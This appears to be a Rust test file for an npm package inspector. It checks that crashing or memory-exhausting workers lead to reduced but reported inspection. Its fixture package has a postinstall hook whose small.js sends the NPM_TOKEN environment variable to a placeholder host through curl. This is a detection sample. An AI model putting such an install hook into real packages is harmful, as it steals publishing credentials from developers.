//! What is lost to a worker is looked at again, less closely: by a worker that bears only what it is told to bear.

use std::os::fd::AsFd as _;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::Value;
use tidegate::config::InspectionSection;
use tidegate::inspection::wire::JobHead;
use tidegate::inspection::{Detectors, Inspector, Looker, WorkerCommand, worker};
use tidegate_inspect::{Inspection, Request, Scratch};
use tidegate_model::Ecosystem;

use super::gzip;
use super::tar;

/// A source that only the most careful look leaves unparsed: between 128 KiB and 1 MiB.
const SOURCE_BYTES: usize = 600 << 10;

/// Fails with everything until sources above 128 KiB are left alone; with `hopeless.tgz` always.
struct Fragile;

impl Inspector for Fragile {
    fn prepare(&mut self) {
        Detectors.prepare();
    }

    fn inspect(&self, job: &JobHead, bytes: &[u8], scratch: &dyn Scratch) -> Vec<u8> {
        let most = job.head.get("parsed_bytes").and_then(Value::as_u64);
        match most {
            None => hoard(),
            Some(most) if most > 128 << 10 || job.name == "hopeless.tgz" => panic!("more than it bears"),
            Some(_) => Detectors.inspect(job, bytes, scratch),
        }
    }
}

/// Takes memory until there is no more.
fn hoard() -> Vec<u8> {
    let kept: Vec<Vec<u8>> = (0..4096_u32).map(|n| vec![n.to_le_bytes()[0] | 1; 1 << 20]).collect();
    kept.concat()
}

#[test]
#[ignore = "a looker starts it as a worker"]
fn fragile() {
    if rustix::net::getsockname(std::io::stdin().as_fd()).is_ok() {
        worker::run(Fragile);
    }
}

/// Bears one artifact, and takes all memory at the next.
struct Tired(AtomicBool);

impl Inspector for Tired {
    fn prepare(&mut self) {
        Detectors.prepare();
    }

    fn inspect(&self, job: &JobHead, bytes: &[u8], scratch: &dyn Scratch) -> Vec<u8> {
        if self.0.swap(true, Ordering::Relaxed) { hoard() } else { Detectors.inspect(job, bytes, scratch) }
    }
}

#[test]
#[ignore = "a looker starts it as a worker"]
fn tired() {
    if rustix::net::getsockname(std::io::stdin().as_fd()).is_ok() {
        worker::run(Tired(AtomicBool::new(false)));
    }
}

/// A looker with one such worker, which has looked into a package with a large source and a small one, so many times.
fn look(name: &str, worker: &str, times: usize) -> (Looker, Result<Inspection, String>) {
    let folder = tempfile::Builder::new().prefix("tidegate-careful-").tempdir().unwrap();
    let arguments = [worker, "--exact", "--ignored", "--nocapture", "--test-threads=1"];
    let program: PathBuf = std::env::current_exe().unwrap();
    let command = WorkerCommand { program, arguments: arguments.map(Into::into).to_vec() };
    let section =
        InspectionSection { workers: std::num::NonZeroUsize::new(1), ..InspectionSection::default() };
    let looker = Looker::start(&section, folder.path(), command, [7; 32]).unwrap();
    let large = "f([1, 2, {a: b}], c.d.e(f), 'g');\n".repeat(SOURCE_BYTES / 34);
    let manifest = br#"{"name": "alpha", "version": "1.0.0", "scripts": {"postinstall": "node small.js"}}"#;
    let small = b"require('child_process').exec('curl https://drop.invalid/' + process.env.NPM_TOKEN);\n";
    let tar = tar::archive(&[
        tar::file("package/package.json", manifest),
        tar::file("package/small.js", small),
        tar::file("package/large.js", large.as_bytes()),
    ]);
    let path = folder.path().join(name);
    let bytes = gzip(&tar);
    std::fs::write(&path, &bytes).unwrap();
    let request = Request {
        name: name.to_owned(),
        ecosystem: Some(Ecosystem::Npm),
        package: "alpha".to_owned(),
        version: "1.0.0".to_owned(),
        ..Request::default()
    };
    let digest = super::job(name, &path).digest;
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let blob = std::fs::File::open(&path).unwrap();
    let mut looked = None;
    for _ in 0..times {
        let blob = blob.try_clone().unwrap();
        looked = Some(runtime.block_on(looker.run(digest, blob, bytes.len() as u64, &request)));
    }
    (looker, looked.unwrap().expect("the worker's losses are the artifact's"))
}

#[test]
fn what_cannot_be_borne_is_looked_at_less_closely_and_says_so() {
    let (looker, looked) = look("alpha-1.0.0.tgz", "inspection::careful::fragile", 1);
    let inspection = looked.unwrap();
    let gap = inspection.not_seen.iter().find(|gap| gap.kind == "parse").expect("a gap that says so");
    assert_eq!(
        (&*gap.detail, gap.count),
        ("sources too large to be parsed beside the others", 1),
        "{:?}",
        inspection.not_seen
    );
    let found = |path: &str| inspection.findings.iter().any(|finding| finding.location.path.contains(path));
    assert!(found("small.js"), "what is small is looked at as closely as ever: {:?}", inspection.findings);
    let status = looker.status().unwrap();
    assert_eq!(status.done, 1, "{status:?}");
    assert_eq!((status.gaps.get("memory"), status.gaps.get("panicked")), (Some(&1), Some(&1)), "{status:?}");
}

#[test]
fn what_a_used_worker_cannot_bear_a_new_one_looks_at_as_closely() {
    let (looker, looked) = look("alpha-1.0.0.tgz", "inspection::careful::tired", 3);
    let inspection = looked.unwrap();
    assert!(!inspection.not_seen.iter().any(|gap| gap.kind == "parse"), "{:?}", inspection.not_seen);
    let status = looker.status().unwrap();
    assert_eq!((status.done, status.gaps.get("memory")), (3, None), "{status:?}");
    assert_eq!((status.started, status.lost), (3, 2), "{status:?}");
}

#[test]
fn what_cannot_be_borne_however_little_is_looked_at_has_no_result_for_good() {
    let (looker, looked) = look("hopeless.tgz", "inspection::careful::fragile", 1);
    assert!(looked.is_err(), "{looked:?}");
    let status = looker.status().unwrap();
    assert_eq!(
        (status.done, status.gaps.get("panicked")),
        (0, Some(&2)),
        "three looks and no more: {status:?}"
    );
}
